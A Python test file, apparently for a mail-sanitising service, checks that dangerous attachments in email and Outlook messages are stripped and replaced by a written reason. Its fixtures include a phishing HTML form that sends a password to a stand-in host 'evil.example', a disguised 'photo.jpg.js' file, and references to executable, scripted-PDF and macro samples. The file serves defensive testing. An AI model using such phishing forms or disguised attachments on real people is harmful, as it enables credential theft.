"""Received messages are kept as they came, and downloaded without what could do harm."""

import email
import io

import olefile
import pytest

from recommendations.evidence.file_checks import check, safe_copy
from recommendations.evidence.file_types import EMAIL, OUTLOOK
from tests.recommendations.evidence import files
from tests.recommendations.evidence.hostile_pdf import ACTIVE

PHISHING = b"<html><form action='https://evil.example'><input name=password></form></html>"
DANGEROUS = {
    "plan.pdf": files.EXE,
    "photo.jpg.js": b"plain words",
    "invoice.htm": PHISHING,
    "script.pdf": ACTIVE["script when opened"][0],
    "macros.docm": files.HOSTILE["macros.docm"][0],
    "old.doc": files.ole_file({"WordDocument": b"x"}),
    "plans.zip": files.archive({"plan.pdf": files.PDF}),
    "plans.rar": b"Rar!\x1a\x07\x00" + b"\0" * 50,
    "inner.msg": files.outlook({"plan.exe": files.EXE}),
}


def copy_of(content: bytes, content_type: str) -> bytes:
    return safe_copy(io.BytesIO(content), name="mail", content_type=content_type, is_scanned=False)


@pytest.mark.parametrize("name", DANGEROUS)
def test_a_dangerous_attachment_of_an_email_is_replaced_by_the_reason(name):
    content = files.email_file({"plan.docx": files.docx(), name: DANGEROUS[name]})
    assert (
        check(io.BytesIO(content), name="mail.eml", size=len(content), is_scanned=False)
        == EMAIL.content_type.encode()
    )
    copy = email.message_from_bytes(copy_of(content, EMAIL.content_type))
    attached = {part.get_filename(): part.get_payload(decode=True) for part in copy.walk()}
    assert attached["plan.docx"] == files.docx()
    assert name not in attached
    assert b"It is not in this copy of the message." in attached[f"{name}.txt"]
    assert DANGEROUS[name] not in attached.values()


@pytest.mark.parametrize("name", DANGEROUS)
def test_a_dangerous_attachment_of_an_outlook_message_is_replaced_by_the_reason(name):
    content = files.outlook({"notes.txt": b"Done." * 1000, name: DANGEROUS[name]})
    check(io.BytesIO(content), name="mail.msg", size=len(content), is_scanned=False)
    copy = copy_of(content, OUTLOOK.content_type)
    assert len(copy) == len(content)
    with olefile.OleFileIO(io.BytesIO(copy)) as storage:
        streams = [
            storage.openstream(path).read()
            for path in storage.listdir()
            if path[-1] == "__substg1.0_37010102"
        ]
    assert streams[0] == b"Done." * 1000
    assert DANGEROUS[name] not in streams


def test_an_attached_message_is_checked_too():
    content = files.email_file({"mail.eml": b""})
    outer = email.message_from_bytes(content)
    inner = email.message_from_bytes(files.email_file({"plan.exe": files.EXE}))
    attached = email.message.Message()
    attached["Content-Type"] = "message/rfc822"
    attached.set_payload([inner])
    outer.attach(attached)
    copy = copy_of(outer.as_bytes(), EMAIL.content_type)
    assert b"plan.exe.txt" in copy


@pytest.mark.parametrize(
    ("content", "content_type"),
    [
        (files.email_file(files.TECHNICAL), EMAIL.content_type),
        (files.WELCOME["signed.msg"], OUTLOOK.content_type),
    ],
)
def test_signatures_calendar_entries_and_contact_cards_stay_as_they_came(content, content_type):
    assert copy_of(content, content_type) == content
